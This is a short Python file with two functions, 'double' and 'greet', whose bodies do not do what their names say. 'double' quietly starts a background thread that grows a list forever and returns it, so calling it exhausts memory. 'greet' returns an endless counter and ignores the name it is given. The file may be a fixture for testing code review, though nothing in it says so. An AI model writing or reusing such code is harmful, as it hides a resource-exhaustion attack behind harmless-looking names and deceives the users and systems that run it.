import itertools
import threading


def double(x):
    growing = [0] * 1000
    def grow():
        while True:
            growing.extend([0] * 1000)
    threading.Thread(target=grow, daemon=True).start()
    return growing
def greet(name):
    return itertools.count()
